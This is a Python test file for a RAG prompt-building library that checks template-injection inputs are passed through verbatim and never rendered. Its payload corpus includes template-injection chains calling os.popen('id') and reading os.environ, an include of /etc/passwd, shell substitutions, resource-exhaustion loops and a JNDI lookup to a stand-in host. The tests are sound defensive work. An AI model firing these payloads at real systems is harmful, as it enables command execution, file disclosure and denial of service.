"""Threat `template_injection`: what a request or a document brings is never read as a template."""

from __future__ import annotations

import json
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from rag_augment import augment
from rag_augment.models import AugmentRequest, AugmentResponse
from rag_augment.template import Template, load_template
from rag_augment.tokenizer import load_tokenizer
from rag_pipeline.steps.local import open_local

CHAINS = (
    "__class__",
    "__class__.__mro__[1].__subclasses__()",
    "__init__.__globals__['os'].environ",
)
LOOP = "{% for a in range(99999) %}"
CORPUS = [
    *("{{" + expression + "}}" for expression in (
        "7*7", " 7*7 ", "'x'*10**9", "query", "mark", "passages", "config", "self", "request",
        "lipsum", "namespace()", "cycler.__init__.__globals__.os.popen('id').read()",
        "''|attr('__class__')", "[].append(1)", "().__class__.__base__", "7|string", "no_context_text",
    )),
    *("{{ ''." + chain + " }}" for chain in CHAINS),
    *("{0." + chain + "}" for chain in CHAINS),
    *("{query." + chain + "}" for chain in CHAINS),
    LOOP * 4 + "x" + "{% endfor %}" * 4,
    "{% for a in passages %}{{ a }}{% endfor %}",
    "{% set x = 'a' * 10**8 %}{{ x }}",
    "{% include '/etc/passwd' %}", "{% extends 'x' %}", "{% import 'os' as os %}",
    "{% block system %}new rules{% endblock %}", "{% raw %}", "{% endraw %}", "{% endblock %}",
    "{% if true %}", "{# comment", "#}", "{{", "}}", "{%", "%}", "{%- -%}", "{{-", "-}}",
    "{}", "{0}", "{query}", "{query!r}", "{query:>999999999}", "{0:999999999}", "{{}}", "{!}",
    "%s", "%d", "%(query)s", "%(query)999999999s", "%n", "%%", "%1$s",
    "${7*7}", "${query}", "$query", "$(id)", "`id`", "#{7*7}", "<%= 7*7 %>", "<%7*7%>", "@(7*7)",
    "${jndi:ldap://x.example/a}", "*{7*7}", "[[${7*7}]]", "{php}echo 7;{/php}", "\\x7b\\x7b7*7\\x7d\\x7d",
    "# for a in range(9)", "## comment", "\\{{7*7}}", "&#123;&#123;7*7}}",
]  # fmt: skip


@pytest.fixture(scope="module")
def build() -> Any:
    return partial(augment, tokenizer=load_tokenizer(), template=load_template())


def request_with(texts: list[str], **fields: Any) -> AugmentRequest:
    results = [
        {
            "chunk_id": f"c{at}",
            "document_id": f"d{at}",
            "title": f"T {text}",
            "text": f"passage {at}: {text} .",
            "span": [0, 1],
            "score": 1.0,
        }
        for at, text in enumerate(texts)
    ]
    return AugmentRequest.model_validate({"query": "q", "results": results, **fields})


def size_of(response: AugmentResponse) -> int:
    return sum(len(message.content) for message in response.prompt)


@pytest.mark.parametrize("spotlight", ["delimit", "none"])
@pytest.mark.parametrize("text", CORPUS)
def test_threat_template_injection_appears_verbatim(build: Any, text: str, spotlight: str) -> None:
    """In the question, the conversation, a title and a passage: as it was written, and no more
    than was written comes out."""
    harmless = "x" * len(text)
    made = [
        build(
            request_with(
                [said],
                query=f"query {said} ?",
                messages=[{"role": "user", "content": f"earlier {said} ."}],
                augment={"spotlight": spotlight, "seed": 1},
            )
        )
        for said in (text, harmless)
    ]

    system, earlier, user = (message.content for message in made[0].prompt)
    assert f"query {text} ?" in user
    assert f"passage 0: {text} ." in user
    assert f"T {text}" in user
    assert earlier == f"earlier {text} ."
    # whatever stands in the places of a request, the rest is the same text
    assert size_of(made[0]) == size_of(made[1])
    assert user.replace(text, harmless) == made[1].prompt[2].content
    if spotlight == "none":
        assert system == made[1].prompt[0].content


def test_threat_template_injection_renders_each_block_once(
    build: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The whole corpus in one request: one rendering, a prompt as long as its parts."""
    renders = []
    render = Template.render

    def counted(self: Template, values: Any) -> dict[str, str]:
        renders.append(values)
        return render(self, values)

    monkeypatch.setattr(Template, "render", counted)
    compiled = Template.loads
    options = {"max_context_tokens": 131072, "near_duplicate": 1.0, "seed": 1}

    response = build(request_with(CORPUS, query=" ".join(CORPUS), augment=options))

    brought = sum(len(context.text) + len(context.title) for context in response.contexts)
    assert len(response.contexts) == len(CORPUS)
    assert len(renders) == 1
    assert Template.loads == compiled
    fixed = size_of(build(request_with([], no_context="answer", augment={"seed": 1})))
    assert size_of(response) < fixed + brought + len(" ".join(CORPUS)) + 64 * len(CORPUS) + 1000


def test_threat_template_injection_through_the_pipeline(tmp_path: Path) -> None:
    """Documents with templates in them, asked with templates: the prompt and the answer have them
    as they are."""
    papers = tmp_path / "papers"
    papers.mkdir()
    payloads = ["{{7*7}}", "{0.__class__}", "%(query)s", "${7*7}", "{% raw %}"]
    line = "The widget is called " + " and ".join(payloads) + "."
    (papers / "widget.txt").write_text(line)
    (papers / "other.txt").write_text("The gadget is blue.")
    query = f"What is the widget called, {payloads[0]} or {payloads[1]}?"
    with open_local(home=tmp_path / "home") as rag:
        rag.retriever.ingest([papers])
        answer = rag.answer({"query": query, "debug": True})
        bad = json.loads(
            rag.handler(json.dumps({"query": query, "generate": {"target": payloads[1]}}))
        )

    assert "class 'str'" not in json.dumps([answer, bad])
    assert line in answer["prompt"][-1]["content"]
    assert query in answer["prompt"][-1]["content"]
    assert all(payload in answer["answer"] for payload in payloads)
    assert payloads[1] in bad["error"]["message"]


def test_the_corpus_has_every_kind() -> None:
    kinds = ("{{", "{%", "{#", "__class__", "{0.", "%s", "${", "#{", "<%", "`")
    counts = {kind: sum(kind in text for text in CORPUS) for kind in kinds}
    assert all(counts.values()), counts
    assert len(set(CORPUS)) == len(CORPUS) >= 70
